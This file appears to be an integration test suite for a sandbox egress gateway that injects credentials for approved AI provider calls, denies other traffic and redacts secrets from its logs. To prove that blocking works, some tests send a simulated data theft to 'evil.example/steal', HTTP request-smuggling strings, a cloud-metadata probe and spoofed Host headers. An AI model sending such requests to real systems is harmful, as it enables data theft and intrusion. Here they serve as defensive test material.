import { once } from 'node:events';
import { readdir, readFile } from 'node:fs/promises';
import { request, type IncomingMessage } from 'node:http';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { silentLogger, systemClock } from '#lib';
import { rotateAccessLogs } from '../../src/egress/access-logs.ts';
import { parseAccess, parseEgress } from '../../src/telemetry/recorder/lines.ts';
import { recordOfAccess, recordOfEgress } from '../../src/telemetry/recorder/record.ts';
import { eventually } from './harness.ts';
import { aiRoute, CHAT, denialOf, EgressLab, GATEWAY, JSON_BODY, KEY, OPENAI, PAIR } from './support/egress-lab.ts';
import type { StepAnswer } from './support/sandbox-client.ts';

/** The gateway of AI routes and denied names on real parts; see EgressLab. */

let lab: EgressLab;
beforeAll(async () => {
  lab = await EgressLab.start();
});
afterAll(() => lab?.[Symbol.asyncDispose]());

const askOnce = (address: string): Promise<StepAnswer> =>
  lab.inSandbox({ do: 'https', address, sni: OPENAI, method: 'POST', path: '/v1/chat/completions', headers: JSON_BODY, body: CHAT, ca: lab.rootPem });

test('before it is claimed a sandbox has no names, and the refusal is recorded', async () => {
  // Until the front has started, nobody answers at all.
  const answer = await eventually('DNS answers', async () => {
    const { error } = await lab.inSandbox({ do: 'dns', name: OPENAI, type: 'A' });
    return error === 'ECONNREFUSED' ? undefined : error;
  });
  expect(answer).toBe('EREFUSED');
  const refused = (await lab.egressLines()).find(({ reason }) => reason === 'NotClaimed');
  expect(refused).toMatchObject({ event: 'dns', source: PAIR.sandbox, host: OPENAI, verdict: 'Denied' });
});

test('a claim is refused for a gateway that is not in force, and granted when it is', async () => {
  expect(await lab.claim()).toMatchObject({ refused: '' });
});

test('an admitted name: injected credential, the agent’s own removed, tokens in the record', async () => {
  const address = await lab.addressOf(OPENAI);
  expect(address).toMatch(/^198\.18\.[0-7]\./);
  const headers = {
    authorization: 'Bearer placeholder',
    'x-api-key': 'mine',
    'content-type': 'application/json',
    'x-request-id': 'chosen-by-agent',
    'x-clrk-route': 'x',
  };
  const answer = await lab.inSandbox({
    do: 'https',
    address,
    sni: OPENAI,
    method: 'POST',
    path: '/v1/chat/completions?api=1',
    headers,
    body: CHAT,
    ca: lab.rootPem,
  });
  expect(answer).toMatchObject({ status: 200 });
  const { usage } = JSON.parse(answer.body!) as { usage: { prompt_tokens: number; completion_tokens: number } };
  const request = (await lab.seen()).at(-1)!;
  expect(request).toMatchObject({ sni: OPENAI, method: 'POST' });
  expect(request.headers['authorization']).toBe(`Bearer ${KEY}`);
  expect(Object.keys(request.headers).filter((name) => /^x-(api-key|clrk|envoy|forwarded)/.test(name))).toEqual([]);
  const line = await eventually('the access line', async () => (await lab.accessLines()).find(({ status }) => status === 200));
  expect(line).toMatchObject({
    chain: 'http',
    gateway: GATEWAY,
    source: PAIR.sandbox,
    destination: `${address}:443`,
    sni: OPENAI,
    host: OPENAI,
    method: 'POST',
    path: '/v1/chat/completions',
    route: 'AIProviderRoute/default/llm',
    revision: lab.policyOf().revision,
    engine: { verdict: 'Allowed', model: 'gpt-4o-mini' },
    usage: { input: usage.prompt_tokens, output: usage.completion_tokens },
  });
  expect(line.id).toMatch(/^[0-9a-f-]{36}$/);
  expect(JSON.stringify(line)).not.toContain(KEY);
});

test('a streamed answer passes as it is made, and its tokens are counted', async () => {
  const address = await lab.addressOf(OPENAI);
  const body = JSON.stringify({ ...(JSON.parse(CHAT) as object), stream: true });
  const answer = await lab.inSandbox({
    do: 'https',
    address,
    sni: OPENAI,
    method: 'POST',
    path: '/v1/chat/completions',
    headers: JSON_BODY,
    body,
    ca: lab.rootPem,
  });
  expect(answer).toMatchObject({ status: 200, body: expect.stringContaining('data: [DONE]') });
  const line = await eventually('the access line', async () => (await lab.accessLines()).find(({ engine }) => engine?.stream));
  expect(line.usage).toMatchObject({ input: expect.any(Number), output: expect.any(Number), responseModel: 'gpt-4o-mini', finishReason: 'stop' });
  expect(line.usage!.output).toBeGreaterThan(0);
});

test('other types of an admitted name are empty', async () => {
  expect(await lab.inSandbox({ do: 'dns', name: OPENAI, type: 'AAAA' })).toEqual({ error: 'ENODATA' });
  expect(await lab.inSandbox({ do: 'dns', name: OPENAI, type: 'TXT' })).toEqual({ error: 'ENODATA' });
});

test('a denied name: an address of the deny slice, there 403 with the reason, and both are recorded', async () => {
  const address = await lab.addressOf('Evil.Example.');
  expect(address).toMatch(/^198\.18\.(8|9|1[0-5])\./);
  const answer = await lab.inSandbox({ do: 'https', address, sni: 'evil.example', method: 'POST', path: '/steal?x=1', body: 'secret', ca: lab.rootPem });
  expect(answer.status).toBe(403);
  expect(answer.headers!['content-type']).toContain('application/json');
  const error = denialOf(answer);
  expect(error).toMatchObject({ code: 'NoRoute', gateway: GATEWAY, revision: lab.policyOf().revision, route: '', policy: '' });
  expect(await lab.lineOf(error['decision']!)).toMatchObject({
    chain: 'http',
    status: 403,
    reason: 'NoRoute',
    method: 'POST',
    host: 'evil.example',
    path: '/steal',
  });
  expect((await lab.egressLines()).filter(({ host }) => host === 'evil.example')).toMatchObject([{ event: 'dns', reason: 'NoRoute', gateway: GATEWAY }]);
});

test('a name that was never asked for has no leaf, in either half of the slice', async () => {
  const denied = await lab.addressOf('evil.example');
  const admitted = await lab.addressOf(OPENAI);
  for (const address of [denied, admitted]) {
    const { error } = await lab.inSandbox({ do: 'https', address, sni: 'other.example', path: '/', ca: lab.rootPem });
    expect(error).toMatch(/ECONNRESET|EPROTO|ERR_SSL/);
  }
});

test('SNI and Host must agree, also in the port', async () => {
  const address = await lab.addressOf(OPENAI);
  for (const host of ['evil.example', `${OPENAI}:8443`, `${OPENAI}@evil.example`]) {
    const before = (await lab.seen()).length;
    const answer = await lab.inSandbox({ do: 'https', address, sni: OPENAI, host, path: '/v1/models', ca: lab.rootPem });
    expect([host, answer.status]).toEqual([host, host.includes('@') ? answer.status : 421]);
    expect(answer.status).toBeGreaterThanOrEqual(400);
    expect((await lab.seen()).length).toBe(before);
    if (answer.status === 421) {
      const error = denialOf(answer);
      expect(error).toMatchObject({ code: 'HostMismatch', gateway: GATEWAY, revision: lab.policyOf().revision });
      expect(await lab.lineOf(error['decision']!)).toMatchObject({ status: 421, host });
    }
  }
});

test('an AI route is for port 443: by any other nothing is sent', async () => {
  const address = await lab.addressOf(OPENAI);
  const before = (await lab.seen()).length;
  for (const port of [80, 8443]) {
    const answer = await lab.inSandbox({
      do: 'https',
      address,
      port,
      sni: OPENAI,
      method: 'POST',
      path: '/v1/chat/completions',
      headers: JSON_BODY,
      body: CHAT,
      ca: lab.rootPem,
    });
    expect([port, answer.status]).toEqual([port, 403]);
    expect(denialOf(answer)).toMatchObject({ code: 'NoRoute' });
  }
  expect((await lab.seen()).length).toBe(before);
});

test('the dialled port in Host and another case of the name are the same name', async () => {
  const address = await lab.addressOf(OPENAI);
  for (const host of [`${OPENAI}:443`, 'API.OpenAI.com', `${OPENAI}.`]) {
    const answer = await lab.inSandbox({
      do: 'https',
      address,
      sni: OPENAI,
      host,
      method: 'POST',
      path: '/v1/chat/completions',
      headers: JSON_BODY,
      body: CHAT,
      ca: lab.rootPem,
    });
    expect([host, answer.status]).toEqual([host, 200]);
  }
});

test('what the engine denies keeps its own words', async () => {
  const address = await lab.addressOf(OPENAI);
  const answer = await lab.inSandbox({ do: 'https', address, sni: OPENAI, method: 'GET', path: '/v1/files', ca: lab.rootPem });
  const error = denialOf(answer);
  expect(answer.status).toBe(403);
  expect(error).toMatchObject({ code: 'EndpointNotBuilt', gateway: GATEWAY, route: 'AIProviderRoute/default/llm', revision: lab.policyOf().revision });
  expect(await lab.lineOf(error['decision']!)).toMatchObject({ engine: { verdict: 'Denied', reason: 'EndpointNotBuilt' } });
});

test('methods no API uses, upgrades and smuggling get nowhere', async () => {
  const address = await lab.addressOf(OPENAI);
  const before = (await lab.seen()).length;
  const trace = await lab.inSandbox({ do: 'https', address, sni: OPENAI, method: 'TRACE', path: '/', ca: lab.rootPem });
  expect(denialOf(trace)).toMatchObject({ code: 'MethodNotAllowed' });
  const requests = [
    `GET / HTTP/1.1\r\nhost: ${OPENAI}\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n`,
    `CONNECT ${OPENAI}:443 HTTP/1.1\r\nhost: ${OPENAI}:443\r\n\r\n`,
    `POST / HTTP/1.1\r\nhost: ${OPENAI}\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n`,
    `GET / HTTP/1.1\r\nhost: ${OPENAI}\r\nbad_name: 1\r\n\r\n`,
  ];
  for (const send of requests) {
    const { received = '' } = await lab.inSandbox({
      do: 'raw',
      address,
      port: 443,
      sni: OPENAI,
      send: send.replace('\r\n\r\n', '\r\nconnection: close\r\n\r\n'),
    });
    expect(received).toMatch(/^HTTP\/1\.1 4\d\d /);
    expect(received).toContain('"gateway":"default/gw"');
    expect(received).not.toMatch(/\/run\/|\.sock|envoy/i);
  }
  expect((await lab.seen()).length).toBe(before);
});

test('other protocols and addresses are refused at once, and recorded', async () => {
  const address = await lab.addressOf(OPENAI);
  for (const [to, port] of [
    [address, 443],
    [address, 22],
    ['203.0.113.9', 443],
    ['169.254.169.254', 80],
  ] as const) {
    const started = performance.now();
    const answer = await lab.inSandbox({ do: 'raw', address: to, port, send: 'SSH-2.0-x\r\n' });
    expect(answer.received ?? '').toBe('');
    expect(performance.now() - started).toBeLessThan(4_000);
    const line = await eventually('its record', async () =>
      (await lab.accessLines()).find(({ chain, destination }) => chain === 'refused' && destination === `${to}:${port}`),
    );
    expect(line).toMatchObject({ gateway: GATEWAY, source: PAIR.sandbox });
    expect(line.id).toMatch(/^[0-9a-f-]{36}$/);
  }
});

test('a route whose Secret is missing answers 503 with that reason and dials nothing', async () => {
  const address = await lab.addressOf(OPENAI);
  const missing = lab.policyOf({ aiRoutes: [{ ...aiRoute, credential: { ...aiRoute.credential!, missing: 'SecretNotFound' } }] });
  await lab.enforce(missing);
  const before = (await lab.seen()).length;
  const answer = await lab.inSandbox({
    do: 'https',
    address,
    sni: OPENAI,
    method: 'POST',
    path: '/v1/chat/completions',
    headers: JSON_BODY,
    body: CHAT,
    ca: lab.rootPem,
  });
  expect(answer.status).toBe(503);
  expect(denialOf(answer)).toMatchObject({
    code: 'SecretNotFound',
    route: 'AIProviderRoute/default/llm',
    policy: 'CredentialInjectionPolicy/default/key',
    revision: missing.revision,
  });
  expect((await lab.seen()).length).toBe(before);
  await lab.enforce(lab.policyOf());
});

test('a rotated credential is used from the next request on, without a new revision', async () => {
  const address = await lab.addressOf(OPENAI);
  await lab.enforce(lab.policyOf(), 'rotated');
  const ask = () => askOnce(address);
  await eventually('the new key', async () => (await ask(), (await lab.seen()).at(-1)!.headers['authorization'] === 'Bearer rotated' ? true : undefined));
  await lab.enforce(lab.policyOf());
  await eventually('the old key', async () => ((await ask()).status === 200 ? true : undefined));
});

test('two routes claim a host: the one that allows the request serves it, with its own credential, whatever the agent says', async () => {
  const address = await lab.addressOf(OPENAI);
  const only = (model: string) => [{ index: 0, matches: [{ provider: 'openai', models: [model] }], budgets: [], notBuilt: [] }];
  const other = { policy: 'default/other', credential: 'cred:default/other', inject: { kind: 'Header', header: 'authorization' } } as const;
  await lab.enforce(
    lab.policyOf({
      aiRoutes: [
        { ...aiRoute, rules: only('gpt-4o-mini') },
        { ...aiRoute, route: { namespace: 'default', name: 'second' }, createdAt: 2, rules: only('gpt-4o'), credential: other },
      ],
    }),
  );
  const ask = async (model: string, claimed: string) => {
    const body = JSON.stringify({ ...(JSON.parse(CHAT) as object), model });
    const headers = { ...JSON_BODY, 'x-clrk-route': claimed };
    await lab.inSandbox({ do: 'https', address, sni: OPENAI, method: 'POST', path: '/v1/chat/completions', headers, body, ca: lab.rootPem });
    return (await lab.seen()).at(-1)!.headers['authorization'];
  };
  expect(await ask('gpt-4o-mini', 'AIProviderRoute/default/second')).toBe(`Bearer ${KEY}`);
  expect(await ask('gpt-4o', 'AIProviderRoute/default/llm')).toBe('Bearer other');
  const before = (await lab.seen()).length;
  await ask('o1', 'AIProviderRoute/default/llm');
  expect((await lab.seen()).length).toBe(before);
  await lab.enforce(lab.policyOf());
});

test('an upstream that cannot prove its name, or that is not there, is a gateway error in our words', async () => {
  const address = await lab.addressOf(OPENAI);
  const ask = () => askOnce(address);
  await lab.enforce(lab.policyOf({ trustBundle: '' }));
  const untrusted = await ask();
  expect([untrusted.status, denialOf(untrusted)['code']]).toEqual([502, 'UpstreamCertificateInvalid']);
  await lab.enforce(lab.policyOf({ hostAliases: [{ ip: '10.213.0.3', hostnames: [OPENAI] }] }));
  const unreachable = await ask();
  expect([unreachable.status, denialOf(unreachable)['code']]).toEqual([503, 'UpstreamUnavailable']);
  await lab.enforce(lab.policyOf({ hostAliases: [{ ip: '10.213.0.1', hostnames: [OPENAI] }] }));
  const own = await ask();
  expect([own.status, denialOf(own)['code']]).toEqual([403, 'ForbiddenAddress']);
  await lab.enforce(lab.policyOf());
});

test('egress frozen: AI requests and names are refused in bounded time, denials go on, and afterwards all is well', async () => {
  const address = await lab.addressOf(OPENAI);
  const denied = await lab.addressOf('evil.example');
  const before = (await lab.seen()).length;
  const pid = await lab.egressPid();
  process.kill(pid, 'SIGSTOP');
  try {
    const started = performance.now();
    const answer = await askOnce(address);
    expect([answer.status, denialOf(answer)['code']]).toEqual([503, 'EngineUnavailable']);
    expect(performance.now() - started).toBeLessThan(4_000);
    expect((await lab.inSandbox({ do: 'https', address: denied, sni: 'evil.example', path: '/', ca: lab.rootPem })).status).toBe(403);
    expect((await lab.inSandbox({ do: 'dns', name: 'new.example', type: 'A' })).error).toMatch(/ESERVFAIL|ETIMEOUT/);
  } finally {
    process.kill(pid, 'SIGCONT');
  }
  expect((await lab.seen()).length).toBe(before);
  expect((await askOnce(address)).status).toBe(200);
});

test('egress killed: Envoy goes on with warm names, and after the restart bindings, leaves and configuration are as before', async () => {
  const address = await lab.addressOf(OPENAI);
  process.kill(await lab.egressPid(), 'SIGKILL');
  lab.report = undefined;
  await eventually(
    'egress is back and its revision in force',
    () => (lab.report?.gateways[0]?.revision === lab.policyOf().revision ? true : undefined),
    20_000,
  );
  expect(await lab.addressOf(OPENAI)).toBe(address);
  const answer = await lab.inSandbox({
    do: 'https',
    address,
    sni: OPENAI,
    method: 'POST',
    path: '/v1/chat/completions',
    headers: JSON_BODY,
    body: CHAT,
    ca: lab.rootPem,
  });
  expect(answer.status).toBe(200);
});

test('Envoy killed: said in the records, and it serves again with the same configuration and names', async () => {
  const address = await lab.addressOf(OPENAI);
  process.kill(await lab.envoyPid(), 'SIGKILL');
  await eventually('the record', async () => (await lab.egressLines()).find(({ event, gateway }) => event === 'gateway-died' && gateway === GATEWAY));
  await eventually('it serves again', async () => ((await askOnce(address)).status === 200 ? true : undefined));
});

test('no query, header or body is in a line of a record, let through or refused, and no key of a path or name in a record', async () => {
  const [admitted, denied] = [await lab.addressOf(OPENAI), await lab.addressOf('evil.example')];
  const key = 'sk-proj-inThePath00Canary';
  const secrets = ['query', 'authorization', 'cookie', 'own-header', 'referer', 'body'].map((place) => `Canary-of-the-${place}`);
  const [query, authorization, cookie, own, referer, said] = secrets as [string, string, string, string, string, string];
  const headers = { ...JSON_BODY, authorization: `Bearer ${authorization}`, cookie: `session=${cookie}`, 'x-secret': own, referer: `https://x/?t=${referer}` };
  const body = JSON.stringify({ ...(JSON.parse(CHAT) as object), messages: [{ role: 'user', content: said }] });
  const send = (sni: string, path: string) =>
    lab.inSandbox({ do: 'https', address: sni === OPENAI ? admitted : denied, sni, method: 'POST', path, headers, body, ca: lab.rootPem });
  expect(await send(OPENAI, `/v1/chat/completions?key=${query}`)).toMatchObject({ status: 200 });
  for (const [sni, path] of [
    [OPENAI, `/v1/files/${key}?key=${query}`],
    ['evil.example', `/steal/${key}?key=${query}`],
  ] as const) {
    const answer = await send(sni, path);
    expect(answer.status).toBe(403);
    const line = await lab.lineOf(denialOf(answer)['decision']!);
    // The canary: a record made of this line would have it.
    expect(line.path).toContain(key);
  }
  const access = await lab.accessLines();
  const egress = await lab.egressLines();
  for (const secret of secrets) expect(JSON.stringify([access, egress])).not.toContain(secret);
  const records = [
    ...access.map((line) => recordOfAccess(parseAccess(JSON.stringify(line))!, undefined, '0')),
    ...egress.map((line) => recordOfEgress(parseEgress(JSON.stringify(line))!, undefined, '0')),
  ];
  expect(records.filter(({ path }) => path.includes('[redacted]')).length).toBeGreaterThanOrEqual(3);
  expect(JSON.stringify(records)).not.toMatch(/Canary/i);
});

test('an access log is put aside without losing a line', async () => {
  const address = await lab.addressOf(OPENAI);
  const ids: string[] = [];
  const refused = async () => {
    const answer = await lab.inSandbox({ do: 'https', address, sni: OPENAI, path: '/v1/files', ca: lab.rootPem });
    ids.push(denialOf(answer)['decision']!);
  };
  await refused();
  await lab.lineOf(ids[0]!);
  const rotation = rotateAccessLogs({ at: lab.at, indexes: () => [0], clock: systemClock, log: silentLogger, rotateBytes: 1, everyMs: 200 });
  try {
    await eventually('rotation', async () => ((await readdir(lab.at.envoyRecords(0))).some((name) => name.startsWith('access-0.jsonl.')) ? true : undefined));
    await refused();
    await refused();
  } finally {
    await rotation[Symbol.asyncDispose]();
  }
  await eventually('every line', async () => {
    const names = (await readdir(lab.at.envoyRecords(0))).filter((name) => name.startsWith('access-0.jsonl'));
    const texts = await Promise.all(names.map((name) => readFile(join(lab.at.envoyRecords(0), name), 'utf8')));
    return ids.every((id) => texts.join('').split(id).length === 2) ? true : undefined;
  });
});

test('no credential, private key or leaf key is in what Envoy shows of itself', async () => {
  const call = request({ socketPath: lab.at.envoyAdmin(0), path: '/config_dump?include_eds', headers: { host: 'envoy' } }).end();
  const [answer] = (await once(call, 'response')) as [IncomingMessage];
  const dump = await text(answer);
  expect(dump.length).toBeGreaterThan(10_000);
  for (const secret of [KEY, Buffer.from(KEY).toString('base64').slice(0, 20), 'PRIVATE KEY']) expect(dump).not.toContain(secret);
});
